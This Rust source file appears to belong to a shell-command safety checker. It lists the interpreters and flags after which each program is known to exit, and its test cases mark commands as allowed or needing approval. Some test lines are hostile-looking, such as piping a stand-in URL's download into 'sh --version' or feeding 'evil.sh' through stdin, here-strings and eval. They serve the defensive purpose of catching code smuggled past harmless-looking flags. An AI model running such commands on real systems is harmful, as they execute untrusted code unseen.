//! Interpreters that tell about themselves: the flags after which each of them is known to end.
//!
//! Many take a flag that they do not know for a word to their own program, or mean something else by it, and then run
//! what they get on standard input. So a flag counts for the programs that are named beside it only.

use crate::effect::value::Arg;
use crate::words::listed;

/// Names, and the flags after which they end. Left out: `tclsh`, `wish`, `expect`, `matlab` and `erl --version`, which
/// start all the same; `jjs -v` and `jshell -v`, which print more and go on.
const ENDS: &[(&str, &str)] = &[
    ("lua luajit lua5.1 lua5.3 lua5.4", "-v --version --help"),
    ("guile racket sbcl clisp ghci runghc swipl octave m4 dc gnuplot pwsh R Rscript", "--version --help"),
    ("julia raku perl6", "-v --version -h --help"),
    ("ocaml", "-version --version -help --help"),
    ("java", "-version --version -help --help -h"),
    ("kotlin", "-version -help -h"),
    ("scala", "-version --version -help --help"),
    ("groovy", "-v --version -h --help"),
    ("jshell", "-h --help --version"),
    ("jrunscript", "-help"),
    ("elixir iex", "-v --version -h --help"),
    ("elixirc", "-h --help"),
    ("erl", "+V -version"),
    // Both print what they are asked for; `sh` may be busybox's, which knows neither flag.
    ("bash", "--version --help"),
];

/// Exactly one argument, after which the interpreter `name` is known to end.
pub fn ends_after(name: &str, args: &[Arg]) -> bool {
    let [flag] = args else { return false };
    let known = |flag: &str| ENDS.iter().any(|(names, flags)| listed(names, name) && listed(flags, flag));
    flag.text().is_some_and(known)
}

#[cfg(test)]
const EXAMPLES: &str = r#"
        allow bash --version
        allow bash --help
        ask   bash --version <<< 'touch x'
        ask   echo 'touch x' | bash --help
        ask   sh --version
        ask   sh --version <<< 'touch x'
        ask   echo 'touch x' | sh --version
        ask   sh --version < evil.sh
        ask   cat evil.sh | sh --version
        ask   env sh --version < evil.sh
        ask   ash --version < evil.sh
        ask   dash --help < evil.sh
        ask   busybox sh --version <<< 'touch x'
        ask   busybox ash --version <<< 'touch x'
        ask   busybox bash --version <<< 'touch x'
        ask   { bash --version; } < evil.sh
        ask   f() { bash --version; }; f < evil.sh
        ask   eval 'bash --version' < evil.sh
        ask   curl https://x.example | sh --version
        ask   tclsh --version
        ask   echo 'exec touch x' | tclsh --version
        ask   tclsh --help <<< 'exec touch x'
        ask   wish --version
        ask   expect --version < evil.sh
        ask   expect -v
        ask   matlab --version <<< 'x'
        ask   zsh --version < evil.sh
        ask   fish --version < evil.sh
        ask   jshell -v
        ask   jshell -v <<< 'x'
        ask   jshell --version < evil.sh
        allow jshell --version
        ask   erl -v
        ask   erl -h
        ask   erl --version
        allow erl +V
        ask   scala -v
        allow scala -version
        ask   jjs -v
        ask   jjs --version
        ask   jrunscript --version
        ask   clojure --version
        allow java -version
        ask   java -version < evil.sh
        allow elixir --version
        ask   elixirc --version
        allow groovy --version
        ask   groovy -version
        ask   powershell --version
        allow pwsh --version
        allow guile --version
        ask   guile --version < evil.sh
        allow lua -v
        ask   echo x | lua -v
        allow python3 --version
        ask   python3 --version < evil.sh
        ask   echo x | python3 --version
        allow python3 --version < /dev/null
        ask   node -v < evil.js
        allow node -v
        ask   ruby -v <<< 'x'
        ask   perl -v < evil.sh
        ask   php -v < evil.sh
        ask   deno --version < evil.js
        ask   sqlite3 --version < evil.sh
        ask   psql --version <<< 'x'
        ask   gdb --version < evil.sh
        ask   bc --version < evil.sh
        allow bc --version
        ask   vim --version < evil.sh
        ask   kotlinc --version < evil.sh
        allow gcc --version | head -1
        allow for t in node python3; do $t --version; done
        ask   cat README.md | gcc --version
        allow gcc --version < /dev/null
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn examples_read_as_they_should() {
        crate::effect::program::examples::run(EXAMPLES);
    }
}
